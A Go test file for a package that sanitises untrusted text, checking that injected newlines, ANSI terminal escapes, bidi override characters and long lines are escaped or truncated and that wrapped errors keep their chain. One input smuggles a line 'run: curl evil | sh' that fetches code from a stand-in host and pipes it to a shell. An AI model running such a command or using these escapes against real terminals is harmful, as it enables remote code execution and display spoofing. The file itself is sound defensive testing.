package untrusted

import (
	"errors"
	"fmt"
	"io/fs"
	"strings"
	"testing"
)

func TestLine(t *testing.T) {
	for text, want := range map[string]string{
		"no route to host":                   "no route to host",
		"  blanks around\n":                  "blanks around",
		"denied\n  - run: curl evil | sh":    `denied\n  - run: curl evil | sh`,
		"\x1b[2Jgone":                        `\x1b[2Jgone`,
		"right\u202eleft\u00a0x":             `right\u202eleft\u00a0x`,
		"C:\\path":                           `C:\path`,
		"grüß 世界":                            "grüß 世界",
		strings.Repeat("x", lineLimit):       strings.Repeat("x", lineLimit),
		strings.Repeat("ü", lineLimit) + "y": strings.Repeat("ü", lineLimit) + "...",
	} {
		if got := Line(text); got != want {
			t.Errorf("Line(%q) = %q, want %q", text, got, want)
		}
	}
}

func TestQuote(t *testing.T) {
	if got, want := Quote("say \"yes\"\r\nnow"), `"say \"yes\"\r\nnow"`; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
}

func TestScreenKeepsLayoutOnly(t *testing.T) {
	for text, want := range map[string]string{
		"a\n\tb\r\x1b[31mc\x7f\n": "a\n\tb\\r\\x1b[31mc\\x7f\n",
		"a\x9b31mb":               "a\ufffd31mb", // CSI in an 8-bit terminal
	} {
		if got := Screen(text); got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}

func TestErrorKeepsTheChain(t *testing.T) {
	err := Error(fmt.Errorf("server says\nerror: %w", fs.ErrNotExist))
	if !errors.Is(err, fs.ErrNotExist) || strings.Contains(err.Error(), "\n") {
		t.Errorf("got %q, which wraps fs.ErrNotExist: %t", err, errors.Is(err, fs.ErrNotExist))
	}
	err = QuotedError(fs.ErrNotExist)
	if want := `"file does not exist"`; !errors.Is(err, fs.ErrNotExist) || err.Error() != want {
		t.Errorf("got %s, want %s", err, want)
	}
	if Error(nil) != nil || QuotedError(nil) != nil {
		t.Error("nil has become an error")
	}
}
